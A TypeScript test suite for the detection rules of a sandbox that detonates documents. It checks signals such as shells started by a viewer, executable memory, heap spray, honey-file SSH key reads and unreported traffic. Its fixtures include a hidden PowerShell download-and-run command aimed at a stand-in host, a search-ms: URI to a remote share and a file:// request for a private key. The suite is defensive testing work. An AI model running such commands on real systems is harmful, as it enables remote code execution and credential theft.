import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { anyHappening } from '#test/harness/detonation/any-happening.ts'
import { detonation, environment, happening, learnedBaseline } from '#test/harness/detonation/runs.ts'
import { type Detonation, type Environment, type EndState, type Happening, Signal } from '../contract.ts'

import { judgeRun, SIGNALS } from './all.ts'
import { Baseline, emptyBaseline, learn } from './baseline.ts'
import { learnRun } from './learn-run.ts'
import { KERNEL_EVENTS, PROBES } from './probes.ts'

interface Case {
  readonly id: string
  /** What happens, and what gives the signal. */
  readonly does: string
  readonly happenings: readonly Happening[]
  /** Where it is not of the gravity of its rule. */
  readonly weight?: Signal['weight']
  readonly environment?: Environment
  readonly end?: EndState
  /** The same with one thing missing, which gives none. */
  readonly lacks: string
  readonly nearMiss: readonly Happening[]
}

const start = (image: string, more: { pid?: number; parent?: number; rank?: Happening['rank'] } = {}) =>
  happening('process-start', { pid: 900, parent: 812, image, arguments: [image], ...more })
const file = (path: string, action: 'create' | 'write' | 'read' | 'execute' | 'delete' = 'create', rank: Happening['rank'] = 'kernel', honey = false) =>
  happening('file', { path, action, rank, ...(honey && { honey }) })
const page = (action: 'scheme' | 'clipboard' | 'download' | 'request' | 'navigate' | 'console', detail: string) =>
  happening('page', { action, detail, rank: 'guest' })
const connect = (to: string, rank: Happening['rank'] = 'host') => happening('connect', { to, port: 443, protocol: 'tcp', rank })
const asks = (url: string) => happening('page', { action: 'request', detail: `GET ${url}`, url, rank: 'guest' })
const unreported = (method: string, url: string, unused?: true) => happening('unreported', { method, url, rank: 'host', ...(unused && { unused }) })
const memory = (of: object) => happening('memory', { pid: 812, call: 'mprotect', protection: 'rwx', ...of })
const keyed = (length: number) => memory({ call: 'pkey_mprotect', address: '0x1000000', length, key: 1 })
const heap = (bytes: number) => happening('page', { action: 'heap', detail: '', rank: 'guest', bytes })
const wasm = happening('page', { action: 'script', detail: '', as: 'WebAssembly', rank: 'guest' })
const large = happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 64 * 2 ** 20, count: 1 })
const clock = happening('page', { action: 'clock', detail: '', rank: 'guest' })
const viewer = '/usr/bin/pdftoppm'

const CASES: readonly Case[] = [
  {
    id: 'unexpected-process',
    does: 'Poppler starts /bin/sh',
    happenings: [start('/bin/sh')],
    lacks: 'the program is the viewer, or a copy of it that starts no other',
    nearMiss: [start(viewer), happening('process-start', { pid: 901, parent: 812, image: '/usr/bin/python3' })],
  },
  {
    id: 'unexpected-process',
    does: 'a program in /tmp bears the name of the viewer',
    happenings: [start('/tmp/pdftoppm')],
    lacks: 'it is the installed one',
    nearMiss: [start(viewer)],
  },
  {
    id: 'unexpected-process',
    does: 'a program that the viewer left in its folder bears its name, and is started by that alone',
    happenings: [start('pdftoppm')],
    lacks: 'it is the installed one',
    nearMiss: [start(viewer)],
  },
  {
    id: 'unexpected-process',
    does: 'a program is started by a way that leads through the folder of installed ones and out of it',
    happenings: [start('/usr/bin/../../tmp/pdftoppm'), start('/usr/lib/..')],
    lacks: 'it is the installed one, by whatever way',
    nearMiss: [start('/usr/bin//pdftoppm'), start('/usr/bin/./pdftoppm')],
  },
  {
    id: 'unexpected-process',
    does: 'the equation editor of a Windows guest starts cmd.exe',
    environment: environment('other'),
    happenings: [start('C:\\Office\\EQNEDT32.EXE', { pid: 7 }), start('C:\\Windows\\cmd.exe', { parent: 7 })],
    lacks: 'nothing is started',
    nearMiss: [],
  },
  {
    id: 'write-then-execute',
    does: '/tmp/a is written, then started',
    happenings: [file('/tmp/a'), start('/tmp/a')],
    lacks: 'another file is started',
    nearMiss: [file('/tmp/a'), start('/tmp/b')],
  },
  {
    id: 'write-then-execute',
    does: 'a library is written, then loaded',
    happenings: [file('/tmp/a.so', 'write'), happening('library-call', { pid: 812, call: 'dlopen', argument: '/tmp/a.so' })],
    lacks: 'it was loaded first',
    nearMiss: [happening('library-call', { pid: 812, call: 'dlopen', argument: '/tmp/a.so' }), file('/tmp/a.so', 'write')],
  },
  {
    id: 'memfd-exec',
    does: 'a file in memory alone is started',
    happenings: [memory({ call: 'memfd_create', protection: undefined }), start('/proc/self/fd/7')],
    lacks: 'it is made, and nothing of it started',
    nearMiss: [memory({ call: 'memfd_create', protection: undefined }), start('/bin/true')],
  },
  {
    id: 'executable-memory',
    does: 'memory becomes executable',
    happenings: [memory({})],
    lacks: 'it can be read and written',
    nearMiss: [memory({ protection: 'rw-' })],
  },
  {
    id: 'executable-memory',
    does: 'memory of Chromium becomes executable outside of the range of its script engine',
    environment: environment('chromium'),
    happenings: [keyed(0x2000_0000), memory({ address: '0x21000000', length: 4096 })],
    lacks: 'it lies within that range',
    nearMiss: [keyed(0x2000_0000), memory({ address: '0x20fff000', length: 4096 })],
  },
  {
    id: 'executable-memory',
    does: 'memory of a program that Chromium started becomes executable under a key',
    environment: environment('chromium'),
    happenings: [wasm, start('/bin/sh', { pid: 812 }), keyed(0x2000_0000)],
    lacks: 'the process is of Chromium itself',
    nearMiss: [wasm, keyed(0x2000_0000)],
  },
  {
    id: 'executable-memory',
    does: 'some pages of Chromium become executable under a key',
    environment: environment('chromium'),
    happenings: [keyed(4096)],
    lacks: 'so much memory does as its script engine keeps for code',
    nearMiss: [keyed(0x2000_0000)],
  },
  {
    id: 'executable-memory',
    does: 'some pages of a page with WebAssembly become executable under a key',
    weight: 'odd',
    environment: environment('chromium'),
    happenings: [wasm, keyed(4096)],
    lacks: 'so much memory does as its script engine keeps for code',
    nearMiss: [wasm, keyed(0x2000_0000)],
  },
  {
    id: 'outside-profile',
    does: 'Chromium writes a file of its user',
    environment: environment('chromium'),
    happenings: [file('/home/user/.bashrc', 'write')],
    lacks: 'the files are of its profile, downloaded or passing',
    nearMiss: [file('/home/user/profile/Default/History', 'write'), file('/tmp/.org.chromium.x'), file('/home/user/Downloads/a')],
  },
  {
    id: 'equal-buffers',
    does: 'scripts of a page hold 256 buffers of one MiB',
    happenings: [happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 2 ** 20, count: 256 })],
    lacks: 'they are few, or small',
    nearMiss: [
      happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 2 ** 20, count: 63 }),
      happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 4096, count: 4000 }),
    ],
  },
  {
    id: 'heap-growth',
    does: 'what scripts of a page hold grows from one to 300 MiB',
    happenings: [heap(2 ** 20), heap(300 * 2 ** 20)],
    lacks: 'it is as large from the beginning',
    nearMiss: [heap(300 * 2 ** 20), heap(310 * 2 ** 20)],
  },
  {
    id: 'timing-probe',
    does: 'a page with WebAssembly and a large buffer reads the clock in a tight loop',
    happenings: [wasm, large, clock],
    lacks: 'it does not read the clock so',
    nearMiss: [wasm, large],
  },
  {
    id: 'timing-probe',
    does: 'a page with a large buffer reads the clock in a tight loop',
    weight: 'odd',
    happenings: [large, clock],
    lacks: 'it holds none',
    nearMiss: [clock],
  },
  {
    id: 'stack-pivot',
    does: 'mprotect is called on a foreign stack',
    happenings: [memory({ protection: 'r--', pivoted: true })],
    lacks: 'the stack is its own',
    nearMiss: [memory({ protection: 'r--', pivoted: false })],
  },
  {
    id: 'stack-pivot',
    does: 'a program is started from a foreign stack',
    happenings: [happening('process-start', { pid: 900, parent: 812, image: viewer, arguments: [], pivoted: true })],
    lacks: 'the stack is its own',
    nearMiss: [start(viewer)],
  },
  {
    id: 'sandbox-attack',
    does: 'the viewer calls ptrace',
    happenings: [happening('attack-call', { pid: 812, call: 'ptrace' })],
    lacks: 'it calls nothing of the list',
    nearMiss: [happening('library-call', { pid: 812, call: 'dlopen', argument: 'libm.so.6' })],
  },
  {
    id: 'sandbox-attack',
    does: 'the sandbox of the viewer stops a call',
    happenings: [happening('fault', { pid: 812, image: viewer, signal: 'SIGSYS' })],
    lacks: 'another fault',
    nearMiss: [happening('fault', { pid: 812, image: viewer, signal: 'SIGFPE' })],
  },
  {
    id: 'honey-file',
    does: 'a private key is read',
    happenings: [file('/home/user/.ssh/id_rsa', 'read', 'guest', true)],
    lacks: 'a file without meaning is read',
    nearMiss: [file('/home/user/a', 'read', 'guest')],
  },
  {
    id: 'honey-file',
    does: 'a document has Chromium read a private key as a picture',
    weight: 'active',
    environment: environment('chromium'),
    happenings: [asks('file:///home/user/%2Essh/id_rsa'), file('/home/user/.ssh/id_rsa', 'read', 'guest', true)],
    lacks: 'nobody reads it',
    nearMiss: [asks('file:///home/user/.ssh/id_rsa')],
  },
  {
    id: 'honey-file',
    does: 'a private key is written that a document asked Chromium for',
    environment: environment('chromium'),
    happenings: [asks('file:///home/user/.ssh/id_rsa'), file('/home/user/.ssh/id_rsa', 'write', 'guest', true)],
    lacks: 'a file without meaning is read',
    nearMiss: [asks('file:///home/user/a'), file('/home/user/a', 'read', 'guest')],
  },
  {
    id: 'crash',
    does: 'the viewer dies of a segmentation fault',
    happenings: [happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV', address: '0x0', access: 'read' })],
    lacks: 'it ends by itself',
    nearMiss: [happening('process-end', { pid: 812, code: 0 })],
  },
  {
    id: 'spray',
    does: '64 MiB hold one pattern',
    happenings: [happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '0c0c0c0c', rank: 'guest' })],
    lacks: 'the pages are fresh, of one opaque colour, or few',
    nearMiss: [
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '00000000' }),
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: 'ffffffff' }),
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '282828ff'.repeat(4) }),
      happening('spray', { pid: 812, bytes: 2 ** 20, pattern: '0c0c0c0c' }),
    ],
  },
  {
    id: 'library-call',
    does: 'system is called',
    happenings: [happening('library-call', { pid: 812, call: 'system', argument: 'id' })],
    lacks: 'nothing is called',
    nearMiss: [],
  },
  {
    id: 'library-call',
    does: 'an unknown library is loaded',
    weight: 'odd',
    happenings: [happening('library-call', { pid: 812, call: 'dlopen', argument: 'libx.so' })],
    lacks: 'nothing is called',
    nearMiss: [],
  },
  {
    id: 'network-attempt',
    does: 'the document connects to a host',
    happenings: [connect('198.51.100.7', 'kernel')],
    lacks: 'it is a page, which may',
    nearMiss: [page('navigate', 'https://page.example/'), connect('page.example', 'kernel')],
  },
  {
    id: 'network-attempt',
    does: 'a document in a browser leads it to a host',
    environment: environment('chromium'),
    happenings: [page('navigate', 'file:///home/user/Documents/letter.html'), page('navigate', 'https://page.example/'), connect('page.example')],
    lacks: 'the browser asks for what it asks for with any document',
    nearMiss: [
      page('navigate', 'file:///home/user/Documents/letter.html'),
      happening('connect', { pid: 812, to: '127.0.0.1', port: 3128, protocol: 'other', rank: 'kernel' }),
      happening('connect', { pid: 812, to: '2001:4860:4860:0:0:0:0:8888', port: 443, protocol: 'other', rank: 'kernel' }),
    ],
  },
  {
    id: 'scheme-launch',
    does: 'a page launches search-ms:',
    happenings: [page('scheme', 'search-ms:query=a&crumb=location:\\\\host.example\\a')],
    lacks: 'the browser opens the scheme itself',
    nearMiss: [page('scheme', 'https://page.example/')],
  },
  {
    id: 'clipboard-command',
    does: 'a page copies a command',
    happenings: [page('clipboard', 'powershell -w hidden iex(irm host.example/a)')],
    lacks: 'it says so and copies nothing',
    nearMiss: [page('console', 'powershell -w hidden')],
  },
  {
    id: 'clipboard-command',
    does: 'a page copies a text',
    weight: 'odd',
    happenings: [page('clipboard', 'the quick brown fox')],
    lacks: 'nothing is copied',
    nearMiss: [],
  },
  {
    id: 'unreported-traffic',
    does: 'the proxy sees a request that the browser does not report, however much else it reports',
    happenings: [
      page('request', 'https://page.example/a'),
      unreported('POST', 'https://page.example/b'),
      happening('dropped', { of: 'page console', count: 1 }),
    ],
    lacks: 'the browser reports all, or too much for all of it to be kept',
    nearMiss: [page('request', 'https://page.example/a'), unreported('POST', 'https://page.example/b'), happening('dropped', { of: 'page request', count: 1 })],
  },
  {
    id: 'unreported-traffic',
    does: 'something else than a request is said in a connection that the browser does not report',
    happenings: [page('request', 'file:///home/user/Documents/a.pdf'), unreported('CONNECT', 'other.example:443')],
    lacks: 'the browser reports nothing at all',
    nearMiss: [unreported('CONNECT', 'other.example:443')],
  },
  {
    id: 'unreported-traffic',
    does: 'a connection is opened and not used',
    weight: 'odd',
    happenings: [page('request', 'https://page.example/a'), unreported('CONNECT', 'other.example:443', true)],
    lacks: 'none is opened',
    nearMiss: [page('request', 'https://page.example/a'), connect('page.example')],
  },
  {
    id: 'dropped-file',
    does: 'a shell script is left',
    weight: 'active',
    happenings: [file('/home/user/.config/autostart/a.desktop')],
    lacks: 'a file is read',
    nearMiss: [file('/usr/share/fonts/a.ttf', 'read')],
  },
  {
    id: 'dropped-file',
    does: 'a file is left',
    happenings: [file('/home/user/a.txt')],
    lacks: 'a file is read',
    nearMiss: [file('/usr/share/fonts/a.ttf', 'read')],
  },
  {
    id: 'download',
    does: 'a page hands out a file',
    happenings: [page('download', 'https://page.example/a.zip')],
    lacks: 'it requests one',
    nearMiss: [page('request', 'https://page.example/a.zip')],
  },
  {
    id: 'unusual',
    does: 'the kernel loads a module',
    happenings: [happening('module-load', { pid: 812, path: 'dccp' })],
    lacks: 'it has them already',
    nearMiss: [],
  },
  {
    id: 'unusual',
    does: 'a file is deleted',
    happenings: [file('/home/user/letter.odt', 'delete')],
    lacks: 'it is read',
    nearMiss: [file('/home/user/letter.odt', 'read')],
  },
  {
    id: 'silence',
    does: 'the heartbeat of the agent stops',
    end: 'agent-silenced',
    happenings: [happening('silence', { of: 'agent', detail: 'no heartbeat for 5 s', rank: 'host' })],
    lacks: 'it goes on',
    nearMiss: [],
  },
  {
    id: 'disagreement',
    does: 'the disk holds a file of which the guest told nothing',
    happenings: [file('/home/user/a'), file('/home/user/b', 'create', 'host')],
    lacks: 'the guest told of it',
    nearMiss: [file('/home/user/b'), file('/home/user/b', 'create', 'host')],
  },
  {
    id: 'disagreement',
    does: 'the disk holds a file that is not like those of which the guest told',
    happenings: [...Array.from({ length: 60 }, (_, i) => file(`/tmp/${i}.tmp`)), file('/tmp/a.so', 'create', 'host')],
    lacks: 'so many were alike that the others were not told',
    nearMiss: [...Array.from({ length: 60 }, (_, i) => file(`/tmp/${i}.tmp`)), file('/tmp/60.tmp', 'create', 'host')],
  },
  {
    id: 'disagreement',
    does: 'traffic comes out without a call',
    happenings: [start(viewer), connect('host.example')],
    lacks: 'the kernel saw a call',
    nearMiss: [start(viewer), connect('10.0.2.2', 'kernel'), connect('host.example')],
  },
  {
    id: 'disagreement',
    does: 'the guest tells of a process that the kernel does not know',
    happenings: [start(viewer), start('/bin/x', { pid: 5, rank: 'guest' })],
    lacks: 'the kernel knows it',
    nearMiss: [start(viewer), start('/bin/x', { pid: 900, rank: 'guest' })],
  },
  {
    id: 'disagreement',
    does: 'a document is rendered by a dead viewer',
    happenings: [
      happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV' }),
      happening('process-end', { pid: 812, signal: 'SIGSEGV' }),
      happening('viewer', { state: 'rendered', rank: 'guest', t: 9 }),
    ],
    lacks: 'it had been rendered before',
    nearMiss: [
      happening('viewer', { state: 'rendered', rank: 'guest', t: 0.5 }),
      happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV' }),
      happening('process-end', { pid: 812, signal: 'SIGSEGV' }),
    ],
  },
]

const judged = (of: Case, happenings: readonly Happening[], end: EndState = 'rendered', baseline?: Baseline) =>
  judgeRun({ environment: of.environment ?? environment(), options: { macros: false, egress: 'none', checkHeap: false }, end, happenings, baseline })
const options = { macros: false, egress: 'none', checkHeap: false } as const

describe('the signals', () => {
  it.each(CASES.map((one) => [`${one.id}: ${one.does}`, one] as const))('%s', (_, one) => {
    const rule = SIGNALS.find(({ id }) => id === one.id)!
    const baseline = one.environment?.viewer === 'other' ? undefined : learnedBaseline(one.environment ?? environment())
    const found = judged(one, one.happenings, one.end, baseline).filter(({ id }) => id === one.id)
    expect(found.at(-1)).toMatchObject({ weight: one.weight ?? rule.weight, attack: rule.attack })
    for (const place of found.at(-1)!.shown_by) expect(one.happenings[place]).toBeDefined()
    expect(judged(one, one.nearMiss, 'rendered', baseline).filter(({ id }) => id === one.id)).toEqual([])
  })

  it('have a case and a near miss each', () => {
    expect([...new Set(CASES.map(({ id }) => id))].toSorted()).toEqual(SIGNALS.map(({ id }) => id).toSorted())
    expect(new Set(SIGNALS.map(({ id }) => id)).size).toBe(SIGNALS.length)
  })

  it('weigh as worth knowing where nobody learned what is ordinary', () => {
    const where = environment('chromium')
    const happenings = [happening('attack-call', { pid: 812, call: 'unshare' }), memory({})]
    const weights = (baseline?: Baseline) => judgeRun({ environment: where, options, end: 'rendered', happenings, baseline }).map(({ weight }) => weight)
    expect(weights()).toEqual(['odd', 'odd'])
    expect(weights(learnedBaseline(where))).toEqual(['effect', 'effect'])
    // A baseline of another version says nothing of this one.
    expect(weights({ ...learnedBaseline(where), version: '1' })).toEqual(['odd', 'odd'])
  })

  it('never take the document on the disk for a file that it left', () => {
    const sha256 = 'ab'.repeat(32)
    const laid = happening('file', { path: '/home/user/Documents/a.js', action: 'create', rank: 'host', sha256 })
    const judge = (of: string) =>
      judgeRun({ environment: environment(), options, end: 'rendered', sha256: of, happenings: [laid, file('/tmp/x')] }).map(({ id }) => id)
    expect(judge(sha256)).toEqual([])
    expect(judge('cd'.repeat(32))).toEqual(['dropped-file', 'disagreement'])
  })

  it('take no host for unreported that the browser calls with harmless pages', () => {
    const where = environment('chromium')
    const happenings = [page('request', 'https://page.example/a'), connect('maker.example'), unreported('POST', 'https://maker.example/update')]
    const baseline = { ...learn(learnedBaseline(where), happenings) }
    const judge = (more: readonly Happening[]) => judgeRun({ environment: where, options, end: 'rendered', happenings: [...happenings, ...more], baseline })
    expect(judge([])).toEqual([])
    expect(judge([unreported('POST', 'https://other.example/update')])).toMatchObject([
      { id: 'unreported-traffic', weight: 'active', rank: 'host', shown_by: [3] },
    ])
  })

  it('excuse the reading of a file by nobody but the browser that was asked for it', () => {
    const [asked, key] = [asks('file:///home/user/.ssh/id_rsa'), '/home/user/.ssh/id_rsa']
    const weights = (happenings: readonly Happening[], where = environment('chromium')) =>
      judgeRun({ environment: where, options, end: 'rendered', happenings }).flatMap(({ id, weight }) => (id === 'honey-file' ? [weight] : []))
    const read = happening('file', { pid: 900, path: key, action: 'read', honey: true, rank: 'guest' })
    expect(weights([asked, read])).toEqual(['active'])
    expect(weights([asked, start('/bin/sh'), read])).toEqual(['effect'])
    expect(weights([asks('https://page.example/'), asked, read])).toEqual(['effect'])
    expect(weights([asks('file:///home/user/.ssh/%'), asks('file://share/home/user/.ssh/id_rsa'), read])).toEqual(['effect'])
    expect(weights([asked, read], environment('libreoffice'))).toEqual(['effect'])
  })

  it('name where the way out of the guest led, and not the way itself', () => {
    const door = happening('connect', { pid: 812, to: '127.0.0.1', port: 3128, protocol: 'other', rank: 'kernel' })
    const called = (happenings: readonly Happening[]) =>
      judgeRun({ environment: environment(), options: { macros: false, egress: 'none', checkHeap: false }, end: 'rendered', happenings })
        .filter(({ id }) => id === 'network-attempt')
        .map(({ why }) => why)
    expect(called([door, connect('template.example')])).toEqual([expect.stringContaining('template.example')])
    // Where the host saw nothing come out, the guest's kernel alone tells.
    expect(called([door])).toEqual([expect.stringContaining('127.0.0.1')])
  })

  it('have the rank of the highest that saw it', () => {
    const seen = [
      happening('fault', { pid: 1, image: viewer, signal: 'SIGSEGV', rank: 'guest' }),
      happening('fault', { pid: 1, image: viewer, signal: 'SIGSEGV', address: '0x1' }),
    ]
    expect(judgeRun({ environment: environment(), options, end: 'crashed', happenings: seen })).toMatchObject([
      { id: 'crash', rank: 'kernel', shown_by: [0, 1] },
    ])
  })

  it('stand in docs/signals.md as they are', async () => {
    await expect(document()).toMatchFileSnapshot('../../../../docs/signals.md')
  })
})

describe('what is ordinary', () => {
  const ordinaryKinds = new Set(['outside-profile', 'executable-memory', 'sandbox-attack', 'dropped-file', 'network-attempt', 'library-call', 'unusual'])

  it('is no finding once it was learned, whatever it was', () => {
    fc.assert(
      fc.property(fc.array(anyHappening, { maxLength: 20 }), (happenings) => {
        const where = environment('chromium')
        const harmless = happenings.filter((one) => one.kind !== 'fault')
        const baseline = Array.from({ length: 20 }).reduce<Baseline>((known) => learn(known, harmless), emptyBaseline(where.name, where.version))
        expect(Baseline.parse(baseline)).toEqual(baseline)
        const of = (with_: Baseline) =>
          judgeRun({ environment: where, options, end: 'rendered', happenings: harmless, baseline: with_ }).filter(({ id }) => ordinaryKinds.has(id))
        expect(of(baseline)).toEqual([])
      }),
    )
    // The control: without having learned it, it is one.
    const where = environment('chromium')
    expect(judgeRun({ environment: where, options, end: 'rendered', happenings: [memory({})], baseline: learnedBaseline(where) })).toMatchObject([
      { id: 'executable-memory', weight: 'effect' },
    ])
  })

  it('adds programs to a viewer that nobody listed, and to no other', () => {
    const judge = (where: Environment, image: string) => {
      const baseline = { ...learn(emptyBaseline(where.name, where.version), [start(image)]), runs: 20 }
      return judgeRun({ environment: where, options, end: 'rendered', happenings: [start(image)], baseline }).map(({ id, weight }) => `${id} ${weight}`)
    }
    expect(judge(environment('other'), 'C:\\Windows\\splwow64.exe')).toEqual([])
    expect(judge(environment(), '/bin/sh')).toEqual(['unexpected-process effect'])
  })

  it('is learned of runs that ended as a viewer ends, and showed nothing that only an exploit does', () => {
    const where = environment()
    const empty = emptyBaseline(where.name, where.version)
    const lesson = (happenings: readonly Happening[], of: Partial<Detonation> = {}) => learnRun(empty, detonation(happenings, of))
    expect(lesson([file('/tmp/a.png')])).toEqual({ baseline: { ...empty, runs: 1, ordinary: { file: ['create /tmp/*.png'] } } })
    // A viewer without a script engine makes no code, whatever a file that is held to be harmless showed.
    expect(lesson([memory({})])).toMatchObject({ refused: expect.stringContaining('became executable') as unknown })
    const browser = environment('chromium')
    expect(learnRun(emptyBaseline(browser.name, browser.version), detonation([memory({})], { environment: browser }))).toMatchObject({
      baseline: { ordinary: { memory: ['mprotect rwx'] } },
    })
    expect(lesson([start('/bin/sh')])).toEqual({ refused: 'The viewer started "/bin/sh" with "/bin/sh".' })
    expect(lesson([file('/tmp/a'), start('/tmp/a')])).toMatchObject({ refused: expect.stringContaining('written during the run') as unknown })
    expect(lesson([], { end: 'hung' })).toEqual({ refused: 'it ended as hung' })
    expect(lesson([], { environment: environment('chromium') })).toMatchObject({ refused: expect.stringContaining('chromium') as unknown })
    expect(lesson([happening('dropped', { of: 'file', count: 1 })])).toEqual({ refused: 'not everything that happened was kept' })
    // What Debian mends in a version leaves the ways of its viewer as they are.
    expect(lesson([], { environment: { ...where, version: '22.12.0-2+deb12u9' } })).toMatchObject({ baseline: { runs: 1 } })
  })

  it('never covers a file that lies there to be stolen, a pivot or a file that was written and run', () => {
    const where = environment()
    const bad = [file('/home/user/.ssh/id_rsa', 'read', 'kernel', true), memory({ pivoted: true }), file('/tmp/a'), start('/tmp/a')]
    const baseline = { ...learn(emptyBaseline(where.name, where.version), bad), runs: 20 }
    const ids = judgeRun({ environment: where, options, end: 'rendered', happenings: bad, baseline }).map(({ id }) => id)
    expect(ids).toEqual(['unexpected-process', 'write-then-execute', 'stack-pivot', 'honey-file'])
  })

  it('is no range under a key that is too small for a script engine, whatever was learned', () => {
    const where = environment('chromium')
    const baseline = learn(learnedBaseline(where), [keyed(0x2000_0000), keyed(4096)])
    const judge = (length: number) => judgeRun({ environment: where, options, end: 'rendered', happenings: [keyed(length)], baseline })
    expect(judge(0x2000_0000)).toEqual([])
    expect(judge(4096)).toMatchObject([{ id: 'executable-memory', weight: 'effect' }])
  })

  it('is known again under other numbers and passing names', () => {
    const where = environment('libreoffice')
    const run = (a: string, b: string) => [file(`/tmp/lu${a}.tmp/lu${b}.tmp`), file(`/home/user/.config/4/${a}9-cache`), file('/home/user/.config/4/a1Bc3d')]
    const baseline = { ...learn(emptyBaseline(where.name, where.version), run('8123abc', '1d')), runs: 20 }
    expect(
      judgeRun({ environment: where, options, end: 'rendered', happenings: [...run('77xyz1', '9k'), file('/home/user/.config/4/QbTxyz')], baseline }),
    ).toEqual([])
    expect(judgeRun({ environment: where, options, end: 'rendered', happenings: [file('/home/user/.bashrc')], baseline })).toMatchObject([
      { id: 'dropped-file', weight: 'active' },
    ])
  })
})

describe('any happenings', () => {
  it('give signals of the contract, the same each time, and never an error', () => {
    fc.assert(
      fc.property(fc.array(anyHappening, { maxLength: 60 }), fc.constantFrom(...(['rendered', 'hung', 'agent-silenced'] as const)), (happenings, end) => {
        const judge = () => judgeRun({ environment: environment('chromium'), options, end, happenings })
        for (const signal of judge()) expect(Signal.parse(signal)).toEqual(signal)
        for (const { shown_by } of judge()) for (const place of shown_by) expect(happenings[place]).toBeDefined()
        expect(judge()).toEqual(judge())
      }),
    )
  })

  it('are judged in time in proportion to their number', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => (i % 2 ? file(`/home/user/f${'x'.repeat(i % 3000)}`) : start(`/bin/${'y'.repeat(i % 3000)}`)))
    const begin = performance.now()
    expect(judgeRun({ environment: environment(), options, end: 'rendered', happenings: many }).length).toBeLessThanOrEqual(1000)
    expect(performance.now() - begin).toBeLessThan(20_000)
  }, 60_000)
})

/** docs/signals.md: every signal with what must be present, its source, and what the tests build to show it. */
function document(): string {
  const rows = SIGNALS.map(({ id, weight, requires, attack, source }) => {
    const of = CASES.filter((one) => one.id === id)
    return [
      id,
      weight,
      requires.join('; '),
      attack.join(', '),
      source,
      of.map(({ does }) => does).join('; '),
      [...new Set(of.map(({ lacks }) => lacks))].join('; '),
    ]
  })
  return [
    '# What a document is seen to do, and on what evidence',
    '',
    'Written by `src/scanner/detonation/signals/signals.test.ts`; do not edit. A signal judges what one run in one environment showed; what a viewer does with harmless files is none.',
    '`effect`: what only an exploit does. `crash`: a fault, which triage judges over two runs. `active`: content acted, by what the viewer offers. `odd`: worth knowing.',
    "What a macro did, and what stayed away in a run without macros, is the macro's doing and no exploit.",
    '',
    ...table(['signal', 'weight', 'present before it is told', 'ATT&CK', 'source', 'shown by', 'near miss that gives none'], rows),
    '',
    '## What a Linux guest traces',
    '',
    'The probes and events of the kernel whose entries `trace.ts` understands. Each probe that fetches a string is to end with `guard=\\NUMBER:x64`, a number that the viewer cannot know and that the reader is told: without it, a string of the document can pass for an entry.',
    'The agent writes `vedette-process pid=N parent=N image=PATH` into `trace_marker` for each process that runs already, then `vedette-open` when the document is handed over.',
    '',
    ...table(
      ['probe', 'definition'],
      PROBES.map(({ name, definition }) => [name, `\`${definition}\``]),
    ),
    '',
    `Events: ${KERNEL_EVENTS.map((event) => `\`${event}\``).join(', ')}; \`syscalls/sys_enter_*\` of the calls that \`linux.ts\` lists.`,
    '',
  ].join('\n')
}

function table(headers: readonly string[], rows: readonly (readonly string[])[]): string[] {
  const cell = (text: string) => text.replaceAll('|', '\\|')
  return [headers, headers.map(() => '---'), ...rows.map((row) => row.map(cell))].map((row) => `| ${row.join(' | ')} |`)
}
